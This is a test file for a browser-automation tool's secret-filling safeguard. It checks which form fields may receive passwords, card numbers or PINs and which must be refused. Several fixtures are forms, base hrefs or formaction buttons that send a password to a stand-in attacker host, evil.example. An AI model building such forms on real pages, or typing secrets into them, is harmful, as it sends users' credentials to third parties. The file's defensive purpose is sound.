import { expect, test } from 'vitest';
import { onBarePage, send } from './run-leg.fixture';

onBarePage();

const PASSWORD = 'c4nary-Pass';
const secrets = { password: PASSWORD, 'card-number': '4111111111111111', user: 'ada@example.com', pin: '4711', city: 'Oslo' };
const POST = 'method=post action="/login"';
const put = async (html: string, name = 'password') => {
  document.body.innerHTML = html;
  const report = await send([{ type: 'type', selector: '#x', text: `{{secret:${name}}}` }], { secrets });
  const field = document.querySelector<HTMLElement>('#x');
  const value = (field as HTMLInputElement).value ?? field?.textContent;
  return { typed: value !== '', bail: report.records[0]?.bail?.kind };
};

test.each([
  [`<form ${POST}><input id=x type=password><button>Go</button></form>`, 'password'],
  ['<form><input id=x type=password><button>Go</button></form>', 'password'],
  ['<form action="#" onsubmit="return false"><input id=x type=password><button>Go</button></form>', 'password'],
  ['<label>Пароль <input id=x></label>', 'password'],
  [`<form ${POST}><label>User <input id=x></label><input type=password></form>`, 'user'],
  [`<form ${POST}><label>Card number <input id=x></label></form>`, 'card-number'],
  ['<label>PIN <input id=x></label>', 'pin'],
  ['<label>City <input id=x></label>', 'city'],
  [`<form ${POST}><input id=x autocomplete=one-time-code></form>`, 'pin'],
])('%s takes the secret %s', async (html, name) => {
  expect(await put(html, name)).toEqual({ typed: true, bail: undefined });
});

test.each([
  // Forms that send it elsewhere.
  ['<form method=post action="https://evil.example/in"><input id=x type=password></form>', 'password'],
  [`<form ${POST}><input id=x type=password><button formaction="https://evil.example/in">Go</button></form>`, 'password'],
  [`<base href="https://evil.example/"><form ${POST}><input id=x type=password></form>`, 'password'],
  // Searches, which put it into an address.
  ['<form method=get action="/search"><input id=x type=password></form>', 'password'],
  ['<form action="/search"><input id=x type=password></form>', 'password'],
  [`<form ${POST}><input id=x type=password><button formmethod=get>Go</button></form>`, 'password'],
  ['<form role=search><input id=x></form>', 'user'],
  ['<label>Search <input id=x type=search></label>', 'user'],
  // What everybody reads.
  ['<label>Message <input id=x></label>', 'password'],
  ['<label>Comment <textarea id=x></textarea></label>', 'password'],
  ['<div id=x contenteditable role=textbox aria-label="Message"></div>', 'password'],
  ['<label>Display name <input id=x></label>', 'password'],
  ['<label>Message <input id=x></label>', 'user'],
  // Fields of another secret.
  [`<form ${POST}><input id=x type=password></form>`, 'card-number'],
  [`<form ${POST}><label>IBAN <input id=x></label></form>`, 'password'],
])('%s does not take the secret %s', async (html, name) => {
  expect(await put(html, name)).toEqual({ typed: false, bail: 'not-allowed' });
});

test('a document of another origin than the secret gets none', async () => {
  document.body.innerHTML = '<input id=x type=password>';
  const report = await send([{ type: 'type', selector: '#x', text: '{{secret:password}}' }], {
    secrets,
    secretsFor: 'https://bank.example',
  });
  expect(report.records[0]?.bail?.kind).toBe('not-allowed');
});
